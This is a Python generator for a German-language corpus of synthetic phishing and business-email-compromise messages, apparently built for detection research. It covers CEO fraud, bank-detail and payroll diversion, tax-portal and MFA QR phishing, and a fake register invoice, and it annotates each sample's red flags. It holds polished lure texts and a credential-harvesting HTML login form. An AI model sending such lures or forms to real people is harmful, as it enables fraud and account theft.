"""Attack messages 01-08 (German)."""
import mailers as M
from core import message, alt, mixed, related, pdf_att, zip_att
from mime import Text, Attachment, to_plain, html_outlook, html_gmail, html_simple, html_branded
from common import D, outlook_quote, SIG, money_de, ib, gt
from people import st, BANK, TAX
from docs import simple_doc, zip_crypto
from qr import qr_png
import base64

F = "attack"

PRIVATEEMAIL = {"hop": "from %(pc)s (unknown [%(ip)s])\n\t(Authenticated sender: %(frm)s)\n\tby mail.privateemail.com (Postfix) with ESMTPSA id %(id)s\n\tfor <%(rcpt)s>; %(date_abbr)s",
                "client": ("mta-09-3.privateemail.com", "mta-09-3.privateemail.com", "198.54.127.61")}


def build():
    # ------------------------------------------------------------ 01 CEO fraud
    ceo = ("Dr. Matthias Köhler", "m.koehler@examplegroup.eu.com")
    txt = """Liebe Frau Würth,

ich schreibe Ihnen aus Zürich, wo wir seit gestern mit den Gesellschaftern eines regionalen Netzbetreibers verhandeln. Heute Morgen haben wir den Letter of Intent für die Übernahme unterzeichnet (interner Projektname „Nordlicht“). Bis zur Veröffentlichung unterliegt die Transaktion strikter Vertraulichkeit – bitte sprechen Sie im Haus mit niemandem darüber, auch nicht mit der Buchhaltung oder dem Aufsichtsrat, das übernehme ich persönlich nach dem Signing.

Die Transaktion wird rechtlich von Herrn Dr. Christian Albrecht (Albrecht & Partner Rechtsanwälte, Zürich) begleitet. Er wird sich heute im Laufe des Vormittags bei Ihnen melden und Ihnen die Unterlagen zur Exklusivitätsvereinbarung zukommen lassen. Für die Exklusivität ist eine Sicherheitsleistung fällig, die heute noch mit Valuta gleicher Tag auf das Treuhandkonto der Kanzlei überwiesen werden muss. Die Details erhalten Sie direkt von ihm.

Ich bin den ganzen Tag in Verhandlungen und telefonisch nicht erreichbar – bitte kommunizieren Sie ausschließlich per E-Mail mit mir und Herrn Dr. Albrecht. Können Sie mir kurz bestätigen, dass Sie heute vor 14 Uhr eine Auslandsüberweisung freigeben können?

Vielen Dank für Ihre Diskretion.

Beste Grüße
Matthias Köhler

Dr. Matthias Köhler
Vorsitzender des Vorstands / CEO
Example Group SE"""
    message(F, 1, "de", "ceo-fraud-vertrauliche-uebernahme", M.m365, ceo, [st("sabine.wuerth")],
            "Vertraulich: Projekt Nordlicht – heutige Abstimmung", D("de", 10, 15, 8, 12, 41),
            alt(txt, html_outlook(txt, "windows-1252"), "windows-1252"),
            reply_to=("Dr. Matthias Köhler", "m.koehler.office@proton.me"),
            opt={"geo": "EUR02-AM0", "region": "eurprd08", "lang": "de-DE, en-US", "clang": "de-DE"},
            hcs="windows-1252", hmode="Q",
            what="CEO fraud: 'Dr. Matthias Köhler' asks the CFO to be ready for a same-day foreign transfer for a secret acquisition; a 'lawyer' will follow.",
            why="Look-alike domain examplegroup.eu.com (CentralNic second-level under eu.com, hosted in an attacker M365 tenant), Reply-To to proton.me, secrecy ('tell no-one, not even accounting'), urgency, phone-contact refused, fake lawyer hand-off: classic BEC/CEO-fraud script.")

    # ------------------------------------------------------------ 02 supplier bank change, look-alike
    fake_sm = ("Stefan Maier", "s.maier@lieferant-gnbh.de")
    fake_pl = ("Petra Lang", "p.lang@lieferant-gnbh.de")
    prev = """Hallo Herr Maier,

anbei wie besprochen die Aufstellung der offenen Posten zum 30.09.2026. Die Rechnungen RE-2026-10412 und RE-2026-10588 sind im Freigabelauf und gehen mit dem nächsten Zahllauf raus.

""" + SIG["jana.hoffmann"]
    txt = """Hallo Frau Hoffmann,

vielen Dank für die Aufstellung, die Posten stimmen mit unserer Buchhaltung überein.

Bitte beachten Sie vor dem nächsten Zahllauf: Im Zuge der Umstellung unserer Konzernfinanzierung wurde unser Geschäftskonto bei der Sparkasse Nürnberg zum 31.10.2026 gekündigt. Zahlungen auf die alte Bankverbindung werden ab sofort nicht mehr gutgeschrieben, sondern zurückgebucht.

Unsere neue Bankverbindung lautet:

Kontoinhaber: Lieferant GmbH
IBAN: %s
BIC: REVOLT21
Bank: Revolut Bank UAB

Das offizielle Schreiben unserer Geschäftsführung finden Sie im Anhang. Könnten Sie die beiden fälligen Rechnungen (zusammen %s EUR) bitte bereits auf das neue Konto anweisen und mir kurz bestätigen, sobald die Stammdaten angepasst sind? Unsere Telefonanlage wird diese Woche umgestellt, daher erreichen Sie uns am besten per E-Mail.

Mit freundlichen Grüßen

Stefan Maier
Vertrieb Innendienst
Lieferant GmbH | Ostendstraße 196 | 90482 Nürnberg
Tel. +49 911 5407-214""" % (ib(BANK["att_lieferant"]), money_de(48716.30))
    full = txt + outlook_quote("de", st("jana.hoffmann"), D("de", 10, 9, 10, 44), [("Stefan Maier", "s.maier@lieferant-gmbh.de")],
                               "Offene Posten Lieferant GmbH / Example Group - Stand 30.09.", prev)
    letter = simple_doc([
        "## Lieferant GmbH", "Ostendstraße 196 · 90482 Nürnberg", "", "",
        "Example Group SE", "Kreditorenbuchhaltung", "Mainzer Landstraße 181", "60327 Frankfurt am Main", "",
        "Nürnberg, 19.10.2026", "",
        "# Änderung unserer Bankverbindung", "",
        "Sehr geehrte Damen und Herren,", "",
        "wir teilen Ihnen mit, dass sich unsere Bankverbindung mit sofortiger Wirkung ändert.",
        "Bitte leisten Sie alle Zahlungen ab sofort ausschließlich auf folgendes Konto:", "",
        "Kontoinhaber: Lieferant GmbH",
        "IBAN: " + ib(BANK["att_lieferant"]),
        "BIC: REVOLT21",
        "Bank: Revolut Bank UAB, Konstitucijos ave. 21B, Vilnius", "",
        "Die bisherige Bankverbindung bei der Sparkasse Nürnberg ist nicht mehr gültig.", "",
        "Mit freundlichen Grüßen", "", "i. A. Stefan Maier", "Lieferant GmbH – Geschäftsführung", "",
        "---",
        "Lieferant GmbH · Amtsgericht Nürnberg HRB 28417 · USt-IdNr. " + TAX["lieferant_ust"],
    ], title="Mitteilung Bankverbindung", author="Stefan Maier", producer="Microsoft: Print To PDF",
        creator="Microsoft Word", date="D:20261019101522+02'00'")
    message(F, 2, "de", "lieferant-lookalike-bankverbindung", M.outlook_smtp, fake_sm,
            [st("jana.hoffmann")], "AW: Offene Posten Lieferant GmbH / Example Group - Stand 30.09.",
            D("de", 10, 19, 10, 31, 7),
            mixed(alt(full, html_outlook(full, "windows-1252"), "windows-1252"),
                  pdf_att(letter, "Mitteilung_Bankverbindung_Lieferant_GmbH.pdf")),
            cc=[fake_pl],
            irt="<a3f1e0c2b4d6487a9e5c1b2d3f4a5e6b@EXCH01.corp.example.com>",
            refs="<a3f1e0c2b4d6487a9e5c1b2d3f4a5e6b@EXCH01.corp.example.com>",
            opt={"provider": PRIVATEEMAIL, "ip": "102.89.47.118", "zone": "us-east", "clang": "de"},
            hcs="iso-8859-1", hmode="Q",
            what="Supplier bank-detail change in a copied thread: 'Stefan Maier' of Lieferant GmbH announces a new IBAN (Lithuanian EMI) and asks AP to pay two invoices there.",
            why="Sender and Cc are on the look-alike domain lieferant-gnbh.de (m→n) hosted at Namecheap Private Email, client IP in Nigeria; German GmbH suddenly banking with a Lithuanian EMI, immediate validity, 'phones are being changed, use e-mail': verification channel blocked. Genuine change is business/02.",
            pair="business/02")

    # ------------------------------------------------------------ 03 ELSTER / E-Rechnung via SendGrid
    link = "https://u48213579.ct.sendgrid.net/ls/click?upn=u001.Xk7v2R9pQm3HnZtW8yLcB4aJdE6sF1gKoU5iV0xYwTrq-2FZbNcA7mP3sLhD9eQ4fGjK6tR8yW2uV5nX1zC0aB-3D-3D"
    txt = """Sehr geehrte Damen und Herren,

ab dem 1. Januar 2027 sind Unternehmen mit einem Vorjahresumsatz von mehr als 800.000 Euro verpflichtet, im inländischen B2B-Geschäftsverkehr ausschließlich elektronische Rechnungen (E-Rechnungen nach § 14 UStG) auszustellen.

Für Ihr Unternehmen liegt uns bislang keine bestätigte Empfangs- und Validierungsadresse für E-Rechnungen vor. Ohne diese Bestätigung können eingehende E-Rechnungen ab dem 01.01.2027 nicht eindeutig zugeordnet werden; ein Vorsteuerabzug aus nicht zuordenbaren Rechnungen ist gefährdet.

Bitte bestätigen Sie die Angaben Ihres Unternehmens bis spätestens 30.11.2026 in Mein ELSTER:

[[BUTTON:Angaben jetzt in Mein ELSTER bestätigen|%s]]

Die Bestätigung dauert etwa 3 Minuten. Halten Sie bitte Ihre Zertifikatsdatei und Ihr Passwort bereit.

Mit freundlichen Grüßen
Ihr ELSTER-Team

Diese Nachricht wurde automatisch erstellt. Bitte antworten Sie nicht auf diese E-Mail.""" % link
    html = html_branded("Mein ELSTER", txt, brand="#1b4f8a", logo_text="ELSTER – Ihr Online-Finanzamt", lang="de",
                        footer="Bayerisches Landesamt für Steuern · Dienststelle München\nImpressum | Datenschutz | Barrierefreiheit")
    message(F, 3, "de", "elster-erechnung-phishing-sendgrid", M.sendgrid,
            ("ELSTER – Ihr Online-Finanzamt", "benachrichtigung@mein-elster-portal.de"), [st("jana.hoffmann")],
            "Bestätigung Ihrer E-Rechnungs-Empfangsadresse erforderlich – Frist 30.11.2026",
            D("de", 11, 3, 7, 2, 18),
            alt(to_plain(txt, "bare"), html, "utf-8"),
            opt={"em": "em3317.mein-elster-portal.de", "ip": "149.72.154.211"},
            hcs="utf-8", hmode="B",
            what="Credential phishing posing as ELSTER (German tax portal) about the 2027 e-invoicing obligation; button via SendGrid click-tracking.",
            why="mein-elster-portal.de is not elster.de; ELSTER does not send action links, has no 'e-invoice receiving address' registration; asks for certificate file + password (ELSTER login); mass-mailed through an abused SendGrid account; deadline pressure. Genuine ELSTER notice is business/08.",
            pair="business/08")

    # ------------------------------------------------------------ 04 quishing M365 MFA from compromised tax adviser (cPanel)
    qurl = "https://sso-examplegroup.pages.dev/mfa/?u=" + base64.b64encode(b"daniel.krueger@example.com").decode()
    png, q = qr_png(qurl, scale=6)
    txt = """Microsoft 365 – Sicherheitsinformationen

Hallo daniel.krueger@example.com,

die Registrierung Ihrer Multi-Faktor-Authentifizierung (MFA) läuft am 23.10.2026 ab. Nach diesem Datum können Sie sich nicht mehr bei Outlook, Teams und SharePoint anmelden, bis Ihre Sicherheitsinformationen erneut bestätigt wurden.

Scannen Sie den folgenden QR-Code mit der Kamera Ihres Smartphones, um die Registrierung in weniger als einer Minute zu erneuern:

[QR-Code]

Hinweis: Aus Sicherheitsgründen kann die Erneuerung nur über ein mobiles Gerät abgeschlossen werden.

Microsoft 365 Admin
Im Auftrag Ihrer IT-Abteilung"""
    html = """<html><head><meta http-equiv="Content-Type" content="text/html; charset=UTF-8"></head>
<body style="font-family:Segoe UI,Arial,sans-serif;font-size:14px;color:#323130">
<table width="560" cellpadding="0" cellspacing="0" style="border:1px solid #e1dfdd">
<tr><td style="background:#0078d4;color:#fff;padding:14px 20px;font-size:18px">Microsoft 365 &ndash; Sicherheitsinformationen</td></tr>
<tr><td style="padding:20px">
<p>Hallo <b>daniel.krueger@example.com</b>,</p>
<p>die Registrierung Ihrer Multi-Faktor-Authentifizierung (MFA) l&auml;uft am <b>23.10.2026</b> ab. Nach diesem Datum k&ouml;nnen Sie sich nicht mehr bei Outlook, Teams und SharePoint anmelden, bis Ihre Sicherheitsinformationen erneut best&auml;tigt wurden.</p>
<p>Scannen Sie den folgenden QR-Code mit der Kamera Ihres Smartphones, um die Registrierung in weniger als einer Minute zu erneuern:</p>
<p style="text-align:center"><img src="cid:image001.png@01DD5F2A.3C8B1E40" width="222" height="222" alt="QR"></p>
<p style="font-size:12px;color:#605e5c">Hinweis: Aus Sicherheitsgr&uuml;nden kann die Erneuerung nur &uuml;ber ein mobiles Ger&auml;t abgeschlossen werden.</p>
<p>Microsoft 365 Admin<br>Im Auftrag Ihrer IT-Abteilung</p>
</td></tr></table>
</body></html>
"""
    body = related(alt(txt, html, "utf-8"),
                   Attachment(png, "image/png", "image001.png", disposition="inline",
                              cid="image001.png@01DD5F2A.3C8B1E40"))
    message(F, 4, "de", "quishing-m365-mfa-kompromittierte-kanzlei", M.roundcube_cpanel,
            ("Microsoft 365 Admin", "info@stb-haas-partner.de"), [st("daniel.krueger")],
            "Aktion erforderlich: MFA-Registrierung für daniel.krueger@example.com läuft ab",
            D("de", 10, 20, 6, 48, 3), body,
            opt={"host": ("dd47312.kasserver.com", "85.13.162.41"), "ip": "185.220.101.37", "smtp": True, "zone": "de"},
            hcs="utf-8", hmode="B",
            what="Quishing: 'Microsoft 365 Admin' tells a sales manager his MFA registration expires; a QR code (PNG, inline) leads to a credential-harvesting page.",
            why="Sent from the genuinely compromised mailbox of an unrelated tax-adviser firm (all-inkl shared hosting, login from a Tor exit), display name impersonating Microsoft; MFA does not 'expire'; QR decodes to sso-examplegroup.pages.dev (Cloudflare Pages) with the victim's address base64-encoded – typical QR phishing to move the click to an unmanaged phone. Genuine internal MFA notice with QR is business/06.",
            pair="business/06")

    # ------------------------------------------------------------ 05 BNetzA HTML attachment via SES
    form = """<!DOCTYPE html>
<html lang="de"><head><meta charset="utf-8"><title>Bundesnetzagentur – Anhörung Az. 114-2026-0447</title>
<style>body{font-family:Arial,Helvetica,sans-serif;background:#eef1f4;margin:0}.h{background:#004b76;color:#fff;padding:16px 24px;font-size:18px}
.b{max-width:460px;margin:40px auto;background:#fff;padding:28px;border:1px solid #cfd6dd}label{display:block;font-size:13px;margin:12px 0 4px}
input{width:100%;padding:8px;border:1px solid #9aa5b1;box-sizing:border-box}button{margin-top:18px;background:#004b76;color:#fff;border:0;padding:10px 22px}</style></head>
<body><div class="h">Bundesnetzagentur · Elektronisches Meldeportal</div>
<div class="b"><p><b>Anhörung nach § 28 VwVfG – Az. 114-2026-0447</b></p>
<p style="font-size:13px">Das Dokument ist geschützt. Bitte melden Sie sich mit den Zugangsdaten Ihres Unternehmenskontos an, um die Anhörung und die Fristsetzung einzusehen.</p>
<form method="post" action="https://bnetza-meldeportal.de/verify/submit.php">
<label>E-Mail-Adresse</label><input type="email" name="login" value="thomas.brenner@example.com">
<label>Kennwort</label><input type="password" name="passwd">
<button type="submit">Dokument anzeigen</button></form>
<p style="font-size:11px;color:#666">© Bundesnetzagentur für Elektrizität, Gas, Telekommunikation, Post und Eisenbahnen</p></div></body></html>
"""
    txt = """Sehr geehrte Damen und Herren,

im Rahmen der Überprüfung der Meldungen nach § 5 TKG sowie der Sicherheitskonzepte nach § 167 TKG haben wir bei Ihrem Unternehmen (Example Group SE, Meldenummer 14/3319) Abweichungen zwischen den gemeldeten und den tatsächlich erbrachten Telekommunikationsdiensten festgestellt.

Vor Erlass einer Anordnung geben wir Ihnen Gelegenheit zur Stellungnahme. Das Anhörungsschreiben (Az. 114-2026-0447) mit allen Einzelheiten und der Fristsetzung finden Sie im Anhang. Aus datenschutzrechtlichen Gründen ist das Dokument nur nach Anmeldung mit Ihrem Unternehmenskonto einsehbar.

Bitte beachten Sie, dass nach Ablauf der Frist am 12.11.2026 ohne weitere Anhörung entschieden werden kann.

Mit freundlichen Grüßen
Im Auftrag

Referat 114 - Meldepflichten, Marktbeobachtung
Bundesnetzagentur für Elektrizität, Gas, Telekommunikation, Post und Eisenbahnen
Tulpenfeld 4, 53113 Bonn"""
    message(F, 5, "de", "bundesnetzagentur-html-anhang", M.ses,
            ("Bundesnetzagentur – Referat 114", "referat114@bundesnetzagentur-verfahren.de"), [st("thomas.brenner")],
            "Anhörung gem. § 28 VwVfG - Meldepflicht nach § 5 TKG (Az. 114-2026-0447)",
            D("de", 10, 29, 13, 21, 55),
            mixed(Text(txt, "plain", "iso-8859-15", "quoted-printable"),
                  Attachment(form.encode("utf-8"), "text/html", "Anhoerung_Az_114-2026-0447.html")),
            hcs="iso-8859-15", hmode="Q",
            what="Regulator-themed credential phishing: 'Bundesnetzagentur' hearing about the provider's § 5 TKG notification; HTML attachment is a login form pre-filled with the IT head's address.",
            why="Trade-specific lure (telecom providers' notification duty), but sent from bundesnetzagentur-verfahren.de (real authority uses bnetza.de / bundesnetzagentur.de) through Amazon SES; an authority never requires logging in with the company's mail password to read a letter; local HTML form posts credentials to bnetza-meldeportal.de.")

    # ------------------------------------------------------------ 06 payroll diversion from Gmail
    txt = """Hallo Birgit,

kurze Bitte: ich habe mein Gehaltskonto gewechselt. Kannst du ab der November-Abrechnung bitte die neue Bankverbindung hinterlegen?

Kontoinhaber: Daniel Krüger
IBAN: %s
Bank: N26

Ich schreibe dir von meiner privaten Adresse, weil ich die ganze Woche beim Kunden in Offenbach bin und nicht ins VPN komme. Falls du noch ein Formular von mir brauchst, schick es mir einfach hierher, dann fülle ich es aus.

Danke dir und viele Grüße
Daniel""" % ib(BANK["att_payroll"])
    message(F, 6, "de", "gehaltsumleitung-privat-gmail", M.gmail,
            ("Daniel Krüger", "daniel.krueger.fra@gmail.com"), [st("birgit.schaefer")],
            "Neue Bankverbindung für Gehalt", D("de", 11, 12, 19, 47, 30),
            alt(txt, html_gmail(txt), "utf-8"),
            hcs="utf-8", hmode="B",
            what="Payroll diversion: 'Daniel Krüger' asks HR from a Gmail address to redirect his salary to a new N26 account from November.",
            why="Free-mail address that is not the employee's known private address, out-of-band excuse (no VPN), change of salary account by e-mail instead of the HR self-service, request to send forms 'here': the standard payroll-diversion BEC. Contrast business/05 (real employee, known private address, no financial request).",
            pair="business/05")

    # ------------------------------------------------------------ 07 fake register 'offer' via Brevo
    txt = """Sehr geehrte Damen und Herren,

Ihr Unternehmen

Example Group SE
Mainzer Landstraße 181
60327 Frankfurt am Main

ist im Zentralen Gewerbe- und Handelsverzeichnis (ZGHV) noch nicht mit vollständigen Angaben zur Branche und zu den Ansprechpartnern erfasst. Bitte prüfen Sie die im Anhang aufgeführten Daten und veranlassen Sie die Zahlung der Eintragungsgebühr innerhalb von 10 Tagen, damit Ihr Eintrag in der Ausgabe 2027 berücksichtigt werden kann.

Vorgangsnummer: ZGHV-2026-77413
Betrag: 1.187,76 EUR (inkl. 19 % USt.)
Fällig bis: 13.11.2026

Mit freundlichen Grüßen
Ihr ZGHV-Serviceteam

Zentrales Gewerbe- und Handelsverzeichnis · Datenservice GmbH
Wenn Sie keine weiteren Informationen wünschen, können Sie sich hier abmelden."""
    offer = simple_doc([
        "## ZGHV – Zentrales Gewerbe- und Handelsverzeichnis", "Datenservice GmbH · Postfach 10 14 33 · 20009 Hamburg", "",
        "# Eintragungsofferte / Rechnung Nr. ZGHV-2026-77413", "",
        "Firma: Example Group SE", "Anschrift: Mainzer Landstraße 181, 60327 Frankfurt am Main",
        "Branche: Telekommunikation / Internetdienstleistungen", "Registergericht: Amtsgericht Frankfurt am Main", "",
        "Leistung: Eintragung Basis-Plus, Laufzeit 12 Monate, Online + Jahresverzeichnis 2027",
        "Netto 998,12 EUR  ·  USt. 19 % 189,64 EUR  ·  Gesamtbetrag 1.187,76 EUR", "",
        "Bitte überweisen Sie den Betrag bis zum 13.11.2026 auf:",
        "IBAN " + ib(BANK["att_register"]) + "  ·  BIC CGDIPTPL",
        "Verwendungszweck: ZGHV-2026-77413", "",
        "---",
        "Dieses Schreiben ist ein Angebot. Mit der Zahlung wird der Auftrag für eine Laufzeit von zwei Jahren",
        "erteilt; er verlängert sich um jeweils ein weiteres Jahr, wenn er nicht drei Monate vor Ablauf gekündigt wird.",
        "Es besteht keine Verbindung zu amtlichen Registern (Handelsregister, Gewerberegister).",
        "Gerichtsstand Hamburg. USt-IdNr. " + TAX["register_ust"],
    ], title="Eintragungsofferte", author="ZGHV", producer="dompdf 2.0.4 + CPDF", creator="dompdf",
        date="D:20261030081200+01'00'")
    message(F, 7, "de", "registerabzocke-eintragungsofferte-brevo", M.brevo,
            ("ZGHV Eintragungsservice", "eintragung@zghv-verzeichnis.de"), [st("jana.hoffmann")],
            "Vorgang ZGHV-2026-77413: Eintragung Example Group SE – Zahlungsfrist 13.11.2026",
            D("de", 10, 30, 9, 5, 12),
            mixed(Text(txt, "plain", "windows-1252", "quoted-printable"),
                  pdf_att(offer, "ZGHV-2026-77413_Example_Group_SE.pdf")),
            extra=[("List-Unsubscribe", "<https://zghv-verzeichnis.de/abmelden?id=77413>, <mailto:abmelden@zghv-verzeichnis.de?subject=unsubscribe>"),
                   ("List-Unsubscribe-Post", "List-Unsubscribe=One-Click")],
            hcs="windows-1252", hmode="Q",
            what="Fake directory/register 'Eintragungsofferte' styled as an invoice with a payment deadline; PDF payable to a Portuguese IBAN.",
            why="Address-book fraud: looks like an official register fee, but the fine print makes payment an order for a 2-year auto-renewing listing worth nothing; Portuguese account for a 'Hamburg' company; sent in bulk through Brevo. Classic 'Adressbuchschwindel'.")

    # ------------------------------------------------------------ 08 thread hijack from compromised Lieferant mailbox, ZipCrypto
    prev = """Hallo Herr Maier,

anbei unsere Bestellung 4500018832:

- 40 St. Spleißkassette SC/APC 12 Fasern, Art.-Nr. LG-SK12-APC
- 12 St. Patchpanel 19" 1HE, 24x LC-Duplex, Art.-Nr. LG-PP24-LCD
- 6 Rollen Mikrokabel 24F G.657.A1, je 2.000 m

Liefertermin KW 44 an unser Lager Frankfurt-Fechenheim, Anlieferung bitte vorher avisieren.

""" + SIG["frank.neumann"]
    txt = """Hallo Herr Neumann,

anbei wie besprochen Auftragsbestätigung und Rechnung zu Ihrer Bestellung 4500018832. Aus Datenschutzgründen versenden wir Belegdokumente seit dieser Woche nur noch verschlüsselt.

Das Kennwort für das Archiv lautet: LG-4471

Bitte prüfen Sie die Unterlagen und geben Sie mir kurz Bescheid, ob die Positionen so passen.

Mit freundlichen Grüßen
Stefan Maier
Lieferant GmbH
""" + "\n" + tb_quote(st("frank.neumann")[0], D("de", 10, 13, 14, 2), prev)
    z = zip_crypto([("AB_RE_4500018832_Lieferant_GmbH.js", b"// placeholder\n")], "LG-4471", seed=b"att08",
                   dt=(2026, 10, 22, 15, 37, 10))
    message(F, 8, "de", "thread-hijack-lieferant-zip-passwort", M.thunderbird,
            ("Stefan Maier", "s.maier@lieferant-gmbh.de"), [st("frank.neumann")],
            "Re: Bestellung 4500018832 – Spleißkassetten und Patchpanels",
            D("de", 10, 22, 15, 38, 20),
            mixed(Text(txt, "plain", "utf-8", "8bit", flowed=True),
                  zip_att(z, "AB_RE_4500018832.zip", ctype="application/zip")),
            irt="<7b2e44c1a9f04e3d8c61b5a2e9d0f317@EXCH02.corp.example.com>",
            refs="<7b2e44c1a9f04e3d8c61b5a2e9d0f317@EXCH02.corp.example.com>",
            opt={"server": ("mail.lieferant-gmbh.de", "185.26.156.73"), "ip": "45.133.192.86",
                 "webmail": True, "ua": "Roundcube Webmail/1.6.9", "clang": "de-DE"},
            hcs="utf-8", hmode="Q", partial=True,
            what="Thread hijack from the genuinely compromised mailbox of Lieferant GmbH: reply in a real purchase-order thread with a password-protected ZIP ('data protection'), password in the body.",
            why="Sent from Lieferant's own server but via its webmail from a foreign hosting IP (Lieferant staff use Thunderbird from their office line); the ZIP is ZipCrypto-encrypted to blind scanners and contains a .js file disguised as 'AB_RE...' (script dropper pattern, here an inert placeholder). Genuine Lieferant invoice: business/03.",
            pair="business/03")


def tb_quote(name, dt, body):
    # Roundcube's German reply header
    return "Am %02d.%02d.%d %02d:%02d, schrieb %s:\n%s\n" % (
        dt.day, dt.month, dt.year, dt.hour, dt.minute, name, gt(body))
